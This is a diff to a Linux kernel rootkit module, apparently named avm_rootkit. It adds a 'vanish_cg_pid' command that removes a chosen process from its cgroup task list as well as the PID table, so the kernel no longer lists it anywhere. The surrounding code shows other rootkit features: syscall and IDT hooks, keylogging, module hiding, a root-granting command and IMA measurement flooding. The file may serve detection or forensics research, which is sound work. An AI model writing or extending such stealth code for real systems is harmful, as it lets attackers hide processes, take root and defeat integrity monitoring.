@@ -9,6 +9,7 @@
  *   echo 'hide_tid 124' > /proc/avm_rootkit  (hide_tid 0: relink)
  *   echo 'hide_tid_count 124' > /proc/avm_rootkit  (hide_tid_count 0: relink)
  *   echo 'vanish_pid 123' > /proc/avm_rootkit  (vanish_pid 0: restore)
+ *   echo 'vanish_cg_pid 123' > /proc/avm_rootkit  (vanish_cg_pid 0: restore)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
@@ -877,10 +878,26 @@ static int untree_task(pid_t nr)
  * hide_pid), its parent's children (as untree_pid) and the PID table
  * (its struct pid replaced by NULL at its number in every namespace, as
  * alloc_pid leaves a number it has not filled yet) ----
+ * vanish_cg_pid: the same, and the task off its cgroup's task list too
+ * (cg_list, under css_set_lock): off every list the kernel keeps of its
+ * tasks; a sleeping one is left only its kernel stack.
  */
 
 static struct task_struct *vanished_task;
+static bool vanished_cg;
 static spinlock_t *pidmap_lock_p;
+static spinlock_t *css_set_lock_p;
+
+/* The vanished task back on (or off) its css_set's task list. */
+static void set_cg_entry(struct task_struct *t, bool present)
+{
+	spin_lock_irq(css_set_lock_p);
+	if (!present)
+		list_del_init(&t->cg_list);
+	else if (pid_alive(t) && list_empty(&t->cg_list))
+		list_add_tail(&t->cg_list, &rcu_dereference_protected(t->cgroups, 1)->tasks);
+	spin_unlock_irq(css_set_lock_p);
+}
 
 static void set_pid_entries(struct task_struct *t, bool present)
 {
@@ -895,14 +912,17 @@ static void set_pid_entries(struct task_struct *t, bool present)
 	spin_unlock_irq(pidmap_lock_p);
 }
 
-static int vanish_task(pid_t nr)
+static int vanish_task(pid_t nr, bool cgroup)
 {
 	struct task_struct *t;
 	int err;
 
-	if (!pidmap_lock_p)
+	if (!pidmap_lock_p || (cgroup && !css_set_lock_p))
 		return -ENOENT;
 	if (vanished_task) {
+		if (vanished_cg)
+			set_cg_entry(vanished_task, true);
+		vanished_cg = false;
 		if (pid_alive(vanished_task))
 			set_pid_entries(vanished_task, true);
 		put_task_struct(vanished_task);
@@ -925,6 +945,10 @@ static int vanish_task(pid_t nr)
 	}
 	set_pid_entries(t, false);
 	vanished_task = t;
+	if (cgroup) {
+		set_cg_entry(t, false);
+		vanished_cg = true;
+	}
 	return 0;
 }
 
@@ -990,7 +1014,7 @@ static int rk_show(char *buf, size_t size)
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
-			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nvanish_cg_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\nima_flooded %ld\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
@@ -1001,7 +1025,8 @@ static int rk_show(char *buf, size_t size)
 			 hidden_task ? hidden_task->pid : 0,
 			 hidden_thread && !hidden_thread_uncounted ? hidden_thread->pid : 0,
 			 hidden_thread && hidden_thread_uncounted ? hidden_thread->pid : 0,
-			 vanished_task ? vanished_task->pid : 0,
+			 vanished_task && !vanished_cg ? vanished_task->pid : 0,
+			 vanished_task && vanished_cg ? vanished_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
@@ -1068,7 +1093,9 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 	else if (!strcmp(name, "hide_tid_count"))
 		err = hide_thread(val, true);
 	else if (!strcmp(name, "vanish_pid"))
-		err = vanish_task(val);
+		err = vanish_task(val, false);
+	else if (!strcmp(name, "vanish_cg_pid"))
+		err = vanish_task(val, true);
 	else if (!strcmp(name, "root_pid"))
 		err = root_task(val, false);
 	else if (!strcmp(name, "euid_pid"))
@@ -1130,6 +1157,7 @@ static int __init rk_init(void)
 	modules_p = (struct list_head *)lookup("modules");
 	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
 	pidmap_lock_p = (spinlock_t *)lookup("pidmap_lock");
+	css_set_lock_p = (spinlock_t *)lookup("css_set_lock");
 	n_tty_ops_p = (struct tty_ldisc_ops *)lookup("n_tty_ops");
 	ima_measurements_p = (struct list_head *)lookup("ima_measurements");
 	ima_extend_list_mutex_p = (struct mutex *)lookup("ima_extend_list_mutex");
@@ -1157,7 +1185,7 @@ static void __exit rk_exit(void)
 	set_nf_hook_ingress(false);
 	set_hide_netns(false);
 	set_hide_module(false);
-	vanish_task(0);
+	vanish_task(0, false);
 	hide_task(0);
 	hide_thread(0, false);
 	root_task(0, false);
